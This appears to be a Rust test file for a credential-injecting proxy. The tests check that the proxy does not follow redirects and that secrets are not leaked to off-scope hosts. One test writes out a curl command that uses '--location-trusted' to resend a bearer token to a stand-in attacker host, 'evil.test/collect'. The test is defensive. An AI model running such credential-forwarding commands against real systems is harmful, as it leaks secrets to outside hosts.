//! The proxy never follows redirects; a client that follows one with a
//! placeholder to a host not allowed for it is blocked.

use warrant_proxy::ProxyEvent;

use crate::support::{GH_TOKEN, Harness, Options};

#[tokio::test]
async fn a_redirect_is_returned_and_the_follow_up_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    let client = h.client();
    let response = client
        .get("https://api.example.test/redirect?to=https://other.example.test/collect")
        .header("authorization", format!("Bearer {ph}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 302);
    let location = response.headers()["location"].to_str().unwrap().to_owned();
    assert_eq!(location, "https://other.example.test/collect");
    assert_eq!(
        h.upstream.seen.requests(),
        1,
        "the proxy followed the redirect"
    );

    // The client follows it, carrying the placeholder along.
    let follow = client
        .get(&location)
        .header("authorization", format!("Bearer {ph}"))
        .send()
        .await
        .unwrap();
    assert_eq!(follow.status(), 403);
    assert_eq!(h.upstream.seen.requests(), 1);
    assert!(matches!(
        &h.events()[..],
        [ProxyEvent::Blocked { host, path, .. }] if host == "other.example.test" && path == "/collect"
    ));
}

#[tokio::test]
async fn curl_following_a_redirect_out_of_scope_is_blocked() {
    let h = Harness::with(Options {
        passthrough: true,
        ..Options::default()
    })
    .await;
    let ph = h.placeholder("github/token").to_owned();
    // curl -L with --location-trusted resends credentials to the new host.
    let out = h
        .curl(&[
            "-L",
            "--location-trusted",
            "-H",
            &format!("Authorization: Bearer {ph}"),
            "https://api.example.test/redirect?to=https://evil.test/collect",
        ])
        .await;
    // evil.test needs no secret: it is tunnelled untouched, so it gets the
    // placeholder, never the value.
    assert_eq!(out.status, 200, "{out:?}");
    let seen = h.upstream.seen.last();
    assert_eq!(seen["path"], "/collect");
    assert_eq!(seen["headers"]["authorization"], format!("Bearer {ph}"));
    assert!(!seen.to_string().contains(GH_TOKEN));
}
